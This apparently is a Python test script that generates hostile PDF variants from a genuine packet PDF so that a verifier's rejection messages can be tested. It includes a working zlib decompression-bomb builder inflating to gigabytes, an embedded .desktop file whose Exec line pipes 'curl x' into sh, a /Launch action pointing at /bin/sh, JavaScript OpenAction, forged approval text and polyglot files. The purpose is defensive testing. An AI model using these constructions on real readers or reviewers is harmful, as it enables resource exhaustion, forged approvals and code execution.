#!/usr/bin/python3
"""Hostile packet PDFs, made at test time from a good one.

Each is what a stranger could send a reviewer: a genuine packet PDF with its
pages changed, something active or a second file added, an update appended,
a decompression bomb, or a file that is JSON and PDF at once.  None may be
called verified.  Nothing here is committed: the bombs are a few megabytes
that inflate to gigabytes, built in a moment (see flate_bomb()).

Usage: make-hostile-pdfs.py GOOD.pdf PACKET.json OUTDIR
Writes OUTDIR/<case>.pdf and prints one line per case: name, then the words
the reviewer must be told (tab-separated).  As a module: make_all().
"""
import re
import struct
import sys
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

GIB = 1 << 30


def flate_bomb(size):
    """A zlib stream of SIZE zero bytes (a multiple of 1 MiB) in about SIZE/1000
    bytes.  After a full flush a compressor of zeros emits the same block for
    each further MiB, so the stream is that block repeated, with the end of
    stream and the Adler-32 of SIZE zeros (a = 1, b = SIZE mod 65521)."""
    mib = b"\0" * (1 << 20)
    co = zlib.compressobj(9)
    first = co.compress(mib) + co.flush(zlib.Z_FULL_FLUSH)
    block = co.compress(mib) + co.flush(zlib.Z_FULL_FLUSH)
    n = size >> 20
    return first + block * (n - 1) + b"\x03\x00" + struct.pack(">I", ((size % 65521) << 16) | 1)


def packet_stream(pdf):
    names = pdf.Root.Names.EmbeddedFiles.Names
    return names[1].EF.F


def save(pdf, path):
    # Streams as they are: re-encoding would decode the bombs here.
    pdf.save(path, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False,
             recompress_flate=False, fix_metadata_version=False)


def add_link(pdf, action):
    page = pdf.pages[0]
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([100, 100, 300, 130]),
                                         Border=Array([0, 0, 0]), A=Dictionary(action)))
    page.obj.Annots = Array([annot])


def make_all(good, packet_json, outdir):
    """Writes each case; returns [(name, path, [words the message must have])]."""
    cases = []

    def case(name, words, change):
        path = "%s/%s.pdf" % (outdir, name)
        with pikepdf.open(good) as pdf:
            change(pdf)
            save(pdf, path)
        cases.append((name, path, words))

    def replace_page_2(pdf):
        # The third page's content drawn on the second: genuine glyphs, wrong page.
        pdf.pages[1].obj.Contents = pdf.make_stream(pdf.pages[2].Contents.read_bytes())

    case("page-2-replaced", ["page 2 is not what the embedded packet renders to"], replace_page_2)

    def paint_cover(pdf):
        page = pdf.pages[0]
        page.obj.Resources.Font = page.obj.Resources.get("/Font", Dictionary())
        page.obj.Resources.Font.FakeF = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.contents_add(pdf.make_stream(b"q 1 1 1 rg 0 0 596 842 re f Q "
                                          b"BT /FakeF 18 Tf 72 760 Td (Approved: all checks passed) Tj ET"))

    case("cover-painted-over", ["page 1 is not what the embedded packet renders to"], paint_cover)

    def second_file(pdf):
        pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"see the real figures here\n",
                                                                mime_type="text/plain")

    case("second-embedded-file", ["embedded files", "“notes.txt”", "only the packet may be embedded"], second_file)

    def desktop_file(pdf):
        pdf.attachments["run.desktop"] = pikepdf.AttachedFileSpec(
            pdf, b"[Desktop Entry]\nType=Application\nName=Open\nExec=sh -c 'curl x | sh'\n",
            mime_type="application/x-desktop")

    case("desktop-file-embedded", ["“run.desktop”", "only the packet may be embedded"], desktop_file)

    def open_action(pdf):
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('verified');"))

    case("openaction-javascript", ["active content", "/OpenAction", "/JavaScript action"], open_action)

    case("launch-annotation", ["active content", "an annotation (/Link)", "/Launch action"],
         lambda pdf: add_link(pdf, {"/S": Name.Launch, "/F": String("/bin/sh")}))
    case("uri-link", ["active content", "/URI action"],
         lambda pdf: add_link(pdf, {"/S": Name.URI, "/URI": String("https://forged.example/")}))

    def acroform(pdf):
        field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("decision"), V=String("approved"),
                                             Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 200, 20]),
                                             P=pdf.pages[0].obj))
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
        pdf.pages[0].obj.Annots = Array([field])

    case("acroform", ["active content", "/AcroForm"], acroform)

    def packet_bomb(declared):
        def change(pdf):
            stream = packet_stream(pdf)
            stream.write(flate_bomb(8 * GIB), filter=Name.FlateDecode)
            if declared is not None:
                stream.Params.Size = declared
        return change

    # The declared size kept: decoding stops just past it.
    case("packet-bomb", ["decodes to more than"], packet_bomb(None))
    # A declared size beyond a packet's maximum: refused before decoding.
    case("packet-bomb-declared", ["declares a size larger than a packet may be"], packet_bomb(8 * GIB))

    def page_bomb(pdf):
        pdf.pages[0].Contents.write(flate_bomb(8 * GIB), filter=Name.FlateDecode)

    case("page-stream-bomb", ["page 1 is not what the embedded packet renders to"], page_bomb)

    def duplicate_pages(pdf):
        # One page listed 1.5 million times (11 MB): qpdf's page list copies
        # each repeat, gigabytes if nothing stops it first.
        page = pdf.Root.Pages.Kids[0]
        pdf.Root.Pages.Kids = Array([page] * 1500000)
        pdf.Root.Pages.Count = 1500000

    case("page-tree-duplicates", ["page tree is not the renderer’s", "a page is in it twice"], duplicate_pages)

    # Objects in compressed object streams, found through a cross-reference
    # stream: qpdf would inflate a whole object stream to reach one object,
    # so neither is followed (the renderer writes neither).
    path = "%s/object-streams.pdf" % outdir
    with pikepdf.open(good) as pdf:
        pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate,
                 stream_decode_level=pikepdf.StreamDecodeLevel.none, fix_metadata_version=False)
    cases.append(("object-streams", path, ["not a readable PDF"]))

    # Page 3 changed by an incremental update: the bytes of the good PDF,
    # then a new version of page 3's content stream, a cross-reference
    # section for it and a trailer pointing back (/Prev).
    data = open(good, "rb").read()
    with pikepdf.open(good) as pdf:
        number = pdf.pages[2].Contents.objgen[0]
        size = int(pdf.trailer.Size)
        root = pdf.Root.objgen[0]
        info = pdf.trailer.Info.objgen[0]
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    content = b"BT /F1 12 Tf 72 700 Td (amended) Tj ET"
    update = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, len(content), content)
    offset = len(data)
    xref = len(data) + len(update)
    update += (b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n"
               b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
               % (number, offset, size, root, info, previous, xref))
    path = "%s/incremental-update.pdf" % outdir
    open(path, "wb").write(data + update)
    cases.append(("incremental-update", path, ["incremental update"]))

    # A hybrid file: the trailer also names a cross-reference stream, which
    # some readers follow and this check does not.
    tail = data.rindex(b"trailer")
    path = "%s/hybrid-xref.pdf" % outdir
    open(path, "wb").write(data[:tail] + data[tail:].replace(b"/Size", b"/XRefStm 15 /Size", 1))
    cases.append(("hybrid-xref", path, ["hidden cross-reference stream (/XRefStm)"]))

    # JSON and PDF at once, each way round.
    packet = open(packet_json, "rb").read()
    path = "%s/polyglot-json-first.pdf" % outdir
    open(path, "wb").write(packet + b"\n" + data)
    cases.append(("polyglot-json-first", path, ["both JSON and PDF"]))
    path = "%s/polyglot-pdf-first.pdf" % outdir
    open(path, "wb").write(data + packet)
    cases.append(("polyglot-pdf-first", path, ["other data after its end"]))
    return cases


if __name__ == "__main__":
    for name, path, words in make_all(sys.argv[1], sys.argv[2], sys.argv[3]):
        print("\t".join([name] + words))
